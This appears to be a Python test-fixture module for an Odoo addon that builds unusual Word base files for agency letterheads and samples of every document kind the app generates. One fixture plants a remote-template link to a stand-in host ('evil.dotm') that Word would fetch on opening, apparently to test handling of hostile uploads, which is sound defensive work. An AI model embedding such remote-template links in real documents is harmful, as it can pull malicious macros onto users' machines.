"""Word files as agencies have them, to write letters into; each is odd in its own way."""

import dataclasses
import io

from docx import Document
from docx.enum.section import WD_ORIENT
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls, qn
from docx.shared import Cm

from odoo.addons.lakip_sop import documents as docs

from .document_samples import CHIEF, DAY, HEAD, letters, png
from .performance_samples import compliance, report, sop_page

KOP = "KOP MILIK DINAS SENDIRI"


def saved(document):
    """Return a python-docx document as bytes."""
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def with_base(content):
    """Return the usual letterhead with ``content`` as its base file."""
    return dataclasses.replace(HEAD, base_docx=content)


def header_base():
    """Landscape F4, a kop in the header of the first page alone, a footer of its own."""
    document = Document()
    section = document.sections[0]
    section.orientation = WD_ORIENT.LANDSCAPE
    section.page_width, section.page_height = Cm(33), Cm(21.5)
    section.different_first_page_header_footer = True
    section.first_page_header.paragraphs[0].text = KOP
    section.header.paragraphs[0].text = "Halaman 2"
    for footer in (section.first_page_footer, section.footer):
        footer.paragraphs[0].text = "KAKI SENDIRI"
    return saved(document)


def body_base():
    """A kop with a picture in the body, in the first of two sections of two columns; none of the
    styles that documents use; a template far away that Word would fetch."""
    document = Document()
    document.add_paragraph(KOP)
    document.add_picture(io.BytesIO(png()), width=Cm(2))
    document.add_section()
    document.add_paragraph("LAMPIRAN CONTOH YANG LAMA")
    for section in document.sections:
        columns = section._sectPr.find(qn("w:cols"))
        columns.set(qn("w:num"), "2")
    for name in ("Heading 1", "Heading 2", "Heading 3", "Heading 4", "Caption"):
        style = document.styles[name].element
        style.getparent().remove(style)
    document.settings.element.insert(
        0, parse_xml(f'<w:attachedTemplate {nsdecls("w", "r")} r:id="rId99"/>')
    )
    document.part._settings_part.rels.get_or_add_ext_rel(
        "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate",
        "https://example.com/evil.dotm",
    )
    return saved(document)


def endorsement(head):
    """Return what a signed report ends with."""
    return docs.Endorsement(
        letterhead=head,
        year=2026,
        signer=CHIEF,
        date=DAY,
        picture=png((300, 120)),
        address="https://example.com/lakip/verify/abc",
        anchor="0123abcd",
        sha256="f" * 64,
        version=2,
    )


def every_kind(head):
    """Return {kind: .docx} of all that the app generates."""
    files = {
        build.__name__.removeprefix("build_"): build(content)
        for build, content in letters(head=head).items()
    }
    audit = docs.Audit(
        title="Audit Siklus LAKIP 2026",
        letterhead=head,
        date=DAY,
        facts=(("Siklus", "LAKIP 2026"),),
        tables=(docs.AuditTable("Keputusan", (("Waktu", 1), ("Keterangan", 3)), [("1", "x")]),),
    )
    return files | {
        "report": docs.build_report(report(letterhead=head)),
        "sop_page": docs.build_sop_page(sop_page(letterhead=head)),
        "compliance": docs.build_compliance(compliance(letterhead=head)),
        "selfcheck": docs.build_selfcheck(docs.SelfCheck(letterhead=head, year=2026, date=DAY)),
        "audit": docs.build_audit_docx(audit),
        "endorsement": docs.build_endorsement(endorsement(head)),
    }
